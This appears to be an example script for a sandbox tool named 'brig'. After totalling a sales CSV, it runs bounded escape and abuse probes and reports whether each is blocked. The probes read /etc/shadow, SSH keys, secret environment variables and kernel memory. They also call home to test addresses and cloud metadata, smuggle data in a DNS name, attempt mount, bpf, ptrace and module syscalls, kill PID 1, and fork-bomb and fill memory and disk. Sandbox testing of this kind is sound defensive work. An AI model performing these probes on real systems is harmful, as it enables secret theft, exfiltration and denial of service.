#!/usr/bin/env python3
"""A program nobody should trust. Run it as

    brig run --file examples/sales.csv examples/untrusted.py

It first does what it was asked to do: add up a table. Then it does what code that was talked into
something might try: look for secrets, call home, break out, use everything up, stay behind. It says
what each attempt met. Every attempt is bounded, and none is made outside a sandbox.
"""
import csv
import ctypes
import errno
import mmap
import os
import signal
import socket
import stat
import sys
import time

LIBC = ctypes.CDLL(None, use_errno=True)
COLOR = os.environ.get("COLOR") == "1"
# System calls by number (x86-64): libc has no wrapper for some.
SYS = {"ptrace": 101, "mount": 165, "unshare": 272, "perf_event_open": 298, "bpf": 321,
       "userfaultfd": 323, "keyctl": 250, "io_uring_setup": 425, "init_module": 175}
MIB = 1024 * 1024


class Allowed(Exception):
    """The attempt worked."""


class Blocked(Exception):
    """The attempt failed, in a way that has no error number."""


def syscall(name, *args):
    """Call it; an error is raised as OSError."""
    if LIBC.syscall(SYS[name], *args) < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    raise Allowed(f"{name}() succeeded")


# ---- the job -----------------------------------------------------------------------------------

def job(path):
    totals = {}
    with open(path, newline="", encoding="utf-8") as f:
        for row in csv.DictReader(f):
            totals[row["city"]] = totals.get(row["city"], 0) + int(row["units"]) * float(row["price"])
    best = sorted(totals.items(), key=lambda kv: -kv[1])
    with open("report.txt", "w", encoding="utf-8") as f:
        for city, total in best:
            print(f"{city:<12}{total:>12.2f}", file=f)
    for city, total in best:
        print(f"    {city:<12}{total:>12.2f}  {'#' * int(40 * total / best[0][1])}")


# ---- the attempts ------------------------------------------------------------------------------

def host_file(path):
    def attempt():
        with open(path, "rb") as f:
            n = len(f.read(64))
        if n:
            raise Allowed(f"read {n} bytes")
        raise Blocked("there, but empty")
    return attempt


def ssh_keys():
    found = []
    for home in ["/root", *(os.path.join("/home", d) for d in os.listdir("/home"))]:
        try:
            found += [k for k in os.listdir(os.path.join(home, ".ssh")) if "id_" in k]
        except OSError:
            pass
    if found:
        raise Allowed(f"{len(found)} keys")
    raise Blocked("no home folder of the host is here")


def environment():
    secrets = [k for k in os.environ if "TOKEN" in k or "SECRET" in k or "KEY" in k]
    if secrets:
        raise Allowed(" ".join(secrets))
    raise Blocked(f"{len(os.environ)} variables, none of the caller's")


def call_home(address, port):
    def attempt():
        family = socket.AF_INET6 if ":" in address else socket.AF_INET
        with socket.socket(family, socket.SOCK_STREAM) as s:
            s.settimeout(3)
            try:
                s.connect((address, port))
            except TimeoutError as e:
                raise Allowed("packets left; nobody answered") from e
        raise Allowed("connected")
    return attempt


def lookup():
    try:
        socket.getaddrinfo("exfiltrate-c2VjcmV0.example.com", 443)
    except socket.gaierror as e:
        raise Blocked(e.strerror) from e
    raise Allowed("resolved")


def raw_socket():
    socket.socket(17, socket.SOCK_RAW, 3)  # AF_PACKET
    raise Allowed("open")


def change_program():
    with open("/usr/bin/python3", "ab"):
        raise Allowed("open for writing")


def core_pattern():
    with open("/proc/sys/kernel/core_pattern", "w", encoding="ascii"):
        raise Allowed("open for writing")


def device_node():
    os.mknod("disk", 0o600 | stat.S_IFBLK, os.makedev(8, 0))
    raise Allowed("made")


def kill_init():
    os.kill(1, signal.SIGKILL)
    time.sleep(0.1)
    os.kill(1, 0)
    raise Blocked("no effect: PID 1 lives")


def attach_init():
    syscall("ptrace", 16, 1, 0, 0)  # PTRACE_ATTACH


def fork_bomb(bound=1000):
    """Fork sleepers until the kernel says no."""
    children = []
    try:
        while len(children) < bound:
            pid = os.fork()
            if pid == 0:
                signal.pause()
                os._exit(0)
            children.append(pid)
        raise Allowed(f"{len(children)} processes at once, no limit met")
    except BlockingIOError as e:
        raise Blocked(f"{os.strerror(e.errno)} after {len(children)} processes") from e
    finally:
        for pid in children:
            os.kill(pid, signal.SIGKILL)
        for pid in children:
            os.waitpid(pid, 0)


def eat_memory(bound=768 * MIB):
    """In a child, so that only the child pays."""
    pid = os.fork()
    if pid == 0:
        for _ in range(0, bound, 16 * MIB):
            block = mmap.mmap(-1, 16 * MIB)
            for at in range(0, 16 * MIB, mmap.PAGESIZE):
                block[at] = 1
            globals().setdefault("kept", []).append(block)
        os._exit(0)
    status = os.waitpid(pid, 0)[1]
    if os.WIFSIGNALED(status):
        raise Blocked(f"the child was killed by signal {os.WTERMSIG(status)}, we were not")
    if os.WEXITSTATUS(status):
        raise Blocked("the child got no more memory")
    raise Allowed(f"{bound // MIB} MiB, no limit met")


def fill_disk(bound=512 * MIB):
    written = 0
    try:
        with open("fill", "wb", buffering=0) as f:
            while written < bound:
                written += f.write(bytes(MIB))
        raise Allowed(f"{written // MIB} MiB, no limit met")
    except OSError as e:
        raise Blocked(f"{os.strerror(e.errno)} after {written // MIB} MiB") from e
    finally:
        os.unlink("fill")


def stay_behind():
    """A daemon, as daemon(3) makes it: forked twice, own session, ignoring signals."""
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            for sig in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
                signal.signal(sig, signal.SIG_IGN)
            null = os.open("/dev/null", os.O_RDWR)
            for fd in (0, 1, 2):
                os.dup2(null, fd)
            time.sleep(120)
        os._exit(0)
    os.wait()
    raise Allowed("started; it dies with the sandbox")


ATTEMPTS = [
    ("Secrets", [
        ("read the password hashes", host_file("/etc/shadow")),
        ("find ssh keys", ssh_keys),
        ("read the caller's environment", environment),
        ("read PID 1's environment", host_file("/proc/1/environ")),
        ("read kernel memory (/proc/kcore)", host_file("/proc/kcore")),
        ("read the first disk (/dev/vda)", host_file("/dev/vda")),
        ("read physical memory (/dev/mem)", host_file("/dev/mem")),
    ]),
    ("Calling home", [
        ("connect to 192.0.2.1, port 443", call_home("192.0.2.1", 443)),
        ("connect to the cloud's metadata", call_home("169.254.169.254", 80)),
        ("connect to 2001:db8::1, port 443", call_home("2001:db8::1", 443)),
        ("smuggle data in a DNS name", lookup),
        ("sniff the network (AF_PACKET)", raw_socket),
    ]),
    ("Breaking out", [
        ("change /usr/bin/python3", change_program),
        ("set the host's core_pattern", core_pattern),
        ("mount a filesystem", lambda: syscall("mount", b"none", b"/tmp", b"tmpfs", 0, None)),
        ("become root in a new namespace", lambda: syscall("unshare", 0x10000000)),
        ("make a block device", device_node),
        ("load a BPF program", lambda: syscall("bpf", 5, None, 0)),
        ("set up io_uring", lambda: syscall("io_uring_setup", 8, ctypes.create_string_buffer(120))),
        ("use perf_event_open", lambda: syscall("perf_event_open", None, 0, -1, -1, 0)),
        ("use userfaultfd", lambda: syscall("userfaultfd", 0)),
        ("read the kernel's key rings", lambda: syscall("keyctl", 0, -3, 0)),
        ("load a kernel module", lambda: syscall("init_module", None, 0, b"")),
        ("debug PID 1", attach_init),
        ("kill PID 1", kill_init),
    ]),
    ("Using it all up", [
        ("fork without end", fork_bomb),
        ("eat all memory", eat_memory),
        ("fill the disk", fill_disk),
        ("leave a daemon behind", stay_behind),
    ]),
]


def verdict(attempt):
    try:
        attempt()
        return False, "nothing happened"
    except Allowed as e:
        return True, str(e)
    except Blocked as e:
        return False, str(e)
    except OSError as e:
        name = errno.errorcode.get(e.errno, str(e.errno)) if e.errno else type(e).__name__
        return False, f"{name}: {e.strerror or e}"


def paint(color, text):
    return f"\033[{color}m{text}\033[0m" if COLOR else text


def main():
    print("  The job: revenue by city")
    job("sales.csv")
    with open("/proc/1/cmdline", "rb") as f:
        if not f.read().startswith(b"brig-init\0"):
            sys.exit("  Not in a sandbox: no attempts made.")
    allowed = total = 0
    for group, attempts in ATTEMPTS:
        print(f"\n  {group}")
        for what, attempt in attempts:
            worked, how = verdict(attempt)
            allowed += worked
            total += 1
            word = paint("33", "allowed") if worked else paint("32", "BLOCKED")
            print(f"    {word}  {what:<38} {how}", flush=True)
    print(f"\n  {total} attempts, {total - allowed} blocked")


if __name__ == "__main__":
    main()
